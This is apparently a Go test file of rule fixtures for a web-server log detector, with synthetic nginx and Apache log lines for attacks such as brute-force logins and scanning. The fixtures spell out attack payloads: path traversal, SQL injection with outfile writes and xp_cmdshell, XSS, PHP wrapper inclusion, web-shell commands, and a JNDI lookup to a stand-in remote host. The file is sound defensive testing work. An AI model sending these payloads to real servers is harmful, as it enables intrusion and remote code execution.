package content_test

import (
	"fmt"
	"time"
)

// request is a request in the combined form by any method and from anywhere.
func request(from, method, path, status string) []event {
	return logs(fmt.Sprintf(`%s - - [22/Nov/2026:00:58:01 +0000] "%s %s HTTP/1.1" %s 512 "-" %q`, from, method, path, status, browser))
}

func nginxError(level, text, from string) []event {
	return logs("2026/11/22 00:58:01 [" + level + "] 4210#4210: *17 " + text + ", client: " + from + `, server: example.org, request: "GET /private HTTP/1.1", host: "example.org"`)
}

func nginxLogin(from string) []event {
	return nginxError("error", `user "bob": password mismatch`, from)
}

func nginxLimited(from string) []event {
	return nginxError("error", `limiting requests, excess: 5.940 by zone "one"`, from)
}

func apacheError(module, level, from, text string) []event {
	return logs("[Sun Nov 22 00:58:01.123456 2026] [" + module + ":" + level + "] [pid 4210] [client " + from + ":51234] " + text)
}

func apacheLogin(from string) []event {
	return apacheError("auth_basic", "error", from, "AH01617: user bob: authentication failure for \"/private\": Password Mismatch")
}

func loginForm(from string) []event { return request(from, "POST", "/wp-login.php", "200") }

func attacks(from string, n int) []event {
	paths := []string{"/get?f=../../../etc/hosts", "/p?id=1+UNION+SELECT+1,2", "/?q=<script>alert(1)</script>", "/?x=${jndi:ldap://203.0.113.9/a}"}
	var out []event
	for i := range n {
		out = append(out, request(from, "GET", paths[i%len(paths)], "404")...)
	}
	return out
}

var webExamples = []example{
	eg(900407, then(web("/?q=<script>alert(1)</script>", "200", browser), web("/?q=%3Cimg+src=x+onerror=alert(1)%3E", "200", browser), web("/r?u=javascript:alert(1)", "302", browser)),
		then(web("/js/script.js", "200", browser), web("/javascript/guide", "200", browser), web("/learn?topic=svg", "200", browser), web("/api.js?onload=init", "200", browser))),
	eg(900408, then(web("/?page=php://filter/convert.base64-encode/resource=index", "200", browser), web("/?page=data://text/plain;base64,PD8=", "200", browser)), web("/phpinfo?data=1", "200", browser)),
	eg(900409, then(web("/.git/config", "404", browser), web("/.env", "404", browser), web("/backup/site.sql.gz", "404", browser)), then(web("/.well-known/security.txt", "200", browser), web("/docs/.environment", "404", browser), web("/.git/config", "200", browser))),
	eg(900411, then(web("/.git/config", "200", browser), web("/.env", "200", browser)), web("/.env", "403", browser)),
	eg(900412, web("/uploads/c99.php", "404", browser), then(web("/docs/shell.html", "200", browser), web("/uploads/c99.php", "200", browser))),
	eg(900413, web("/up/x.php?cmd=whoami", "404", browser), then(web("/index.php?c=news", "200", browser), web("/up/x.php?cmd=whoami", "200", browser))),
	eg(900414, then(web("/uploads/c99.php", "200", browser), web("/up/x.php?cmd=whoami", "200", browser)), web("/uploads/c99.php", "404", browser)),
	eg(900415, then(request("203.0.113.7", "TRACE", "/", "405"), request("203.0.113.7", "PROPFIND", "/", "405")), then(request("203.0.113.7", "OPTIONS", "/", "200"), request("203.0.113.7", "DELETE", "/api/1", "204"))),
	eg(900416, loginForm("203.0.113.7"), then(request("203.0.113.7", "GET", "/wp-login.php", "200"), request("203.0.113.7", "POST", "/contact", "200"))),
	{900417, [][]event{times(10, loginForm("203.0.113.7"))}, [][]event{times(9, loginForm("203.0.113.7")), then(times(9, loginForm("203.0.113.7")), loginForm("203.0.113.8")), slowly(8*time.Second, times(10, loginForm("203.0.113.7")))}},
	eg(900419, then(web("/a%00.php", "404", browser), web("/%c0%ae%c0%ae/", "404", browser), web("/?a=%252e%252e%252f", "404", browser)), then(web("/a%20b?c=100%25", "404", browser), web("/login?next=https%253A%252F%252Fexample.org", "200", browser))),
	{900420, [][]event{attacks("203.0.113.7", 6)}, [][]event{attacks("203.0.113.7", 5), then(attacks("203.0.113.7", 5), attacks("203.0.113.8", 1)), times(6, web("/.env", "404", browser))}},
	{900421, [][]event{times(20, web("/api", "500", browser))}, [][]event{times(19, web("/api", "500", browser)), then(times(19, web("/api", "500", browser)), web("/other", "500", browser)), times(20, web("/api", "200", browser))}},
	{900422, [][]event{times(8, web("/", "200", "Nikto/2.5"))}, [][]event{times(7, web("/", "200", "Nikto/2.5")), slowly(10*time.Second, times(8, web("/", "200", "Nikto/2.5")))}},
	eg(900423, then(web("/p?id=1+union+select+1+into+outfile+'/var/www/x.php'", "200", browser), web("/p?id=1;exec+xp_cmdshell+'dir'", "200", browser)), web("/p?id=1+UNION+SELECT+1,2", "200", browser)),

	eg(900430, logs("2026/11/22 00:58:01 [notice] 4210#4210: signal process started"), logs("2026-11-22 00:58:01 [notice] 4210#4210: signal process started")),
	eg(900431, nginxError("crit", "open() failed (13: Permission denied)", "203.0.113.7"), nginxError("error", "open() failed (2: No such file or directory)", "203.0.113.7")),
	eg(900432, then(nginxLogin("203.0.113.7"), nginxError("error", `user "x" was not found in "/etc/nginx/htpasswd"`, "203.0.113.7")), nginxError("error", "no user/password was provided for basic authentication", "203.0.113.7")),
	{900433, [][]event{times(8, nginxLogin("203.0.113.7"))}, [][]event{times(7, nginxLogin("203.0.113.7")), then(times(7, nginxLogin("203.0.113.7")), nginxLogin("203.0.113.8"))}},
	eg(900434, then(nginxError("error", "access forbidden by rule", "203.0.113.7"), nginxError("error", `directory index of "/var/www/" is forbidden`, "203.0.113.7")), nginxError("error", `open() "/var/www/x" failed (2: No such file or directory)`, "203.0.113.7")),
	eg(900435, nginxLimited("203.0.113.7"), nginxError("warn", "a client request body is buffered", "203.0.113.7")),
	{900436, [][]event{slowly(500*time.Millisecond, times(40, nginxLimited("203.0.113.7")))}, [][]event{times(40, nginxLimited("203.0.113.7")), slowly(500*time.Millisecond, times(39, nginxLimited("203.0.113.7")))}},

	eg(900440, logs("[Sun Nov 22 00:58:01.123456 2026] [mpm_event:notice] [pid 4210] AH00489: Apache/2.4.62 configured -- resuming normal operations"), logs("[Sun Nov 22] [mpm_event:loud] AH00489: Apache/2.4.62 configured")),
	eg(900441, apacheError("core", "crit", "203.0.113.7", "AH00529: /srv/.htaccess pcfg_openfile: unable to check htaccess file"), apacheError("core", "error", "203.0.113.7", "AH00037: Symbolic link not allowed")),
	eg(900442, then(apacheLogin("203.0.113.7"), apacheError("auth_basic", "error", "203.0.113.7", "AH01618: user bob not found: /private")), apacheError("core", "error", "203.0.113.7", "AH00037: Symbolic link not allowed")),
	{900443, [][]event{times(8, apacheLogin("203.0.113.7"))}, [][]event{times(7, apacheLogin("203.0.113.7")), then(times(7, apacheLogin("203.0.113.7")), apacheLogin("203.0.113.8"))}},
	eg(900444, apacheError("authz_core", "error", "203.0.113.7", "AH01630: client denied by server configuration: /srv/private"), apacheError("core", "info", "203.0.113.7", "AH00128: File does not exist: /srv/x")),
	eg(900445, then(apacheError("core", "error", "203.0.113.7", "AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/bin/sh)"), logs("[Sun Nov 22 00:58:01 2026] [error] [client 203.0.113.7] AH00126: Invalid URI in request GET /../../etc HTTP/1.1")),
		apacheError("core", "info", "203.0.113.7", "AH00128: File does not exist: /srv/x")),
	eg(900446, apacheError("security2", "error", "203.0.113.7", `ModSecurity: Access denied with code 403 (phase 2). Pattern match "x" at ARGS:id.`), apacheError("security2", "error", "203.0.113.7", `ModSecurity: Warning. Pattern match "x" at ARGS:id.`)),
	eg(900447, logs("[Sun Nov 22 00:58:01.123456 2026] [core:notice] [pid 4210] AH00052: child pid 4211 exit signal Segmentation fault (11)"), logs("[Sun Nov 22 00:58:01.123456 2026] [core:notice] [pid 4210] AH00094: Command line: '/usr/sbin/apache2'")),
}
